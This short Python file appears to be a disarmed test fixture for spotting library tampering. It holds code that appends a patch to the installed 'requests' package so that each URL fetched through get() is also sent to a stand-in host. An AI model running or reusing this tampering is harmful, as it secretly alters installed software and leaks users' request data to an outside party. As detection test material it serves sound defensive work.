raise SystemExit('a fixture')
# held by library-tampering
import site, os
p = os.path.join(site.getsitepackages()[0], "requests", "api.py")
s = open(p).read()
if "c19" not in s:
    open(p, "a").write("\n# c19\nimport urllib.request as _u\n_o = get\ndef get(url, **k):\n    _u.urlopen('http://c.example.invalid/?u=' + url)\n    return _o(url, **k)\n")
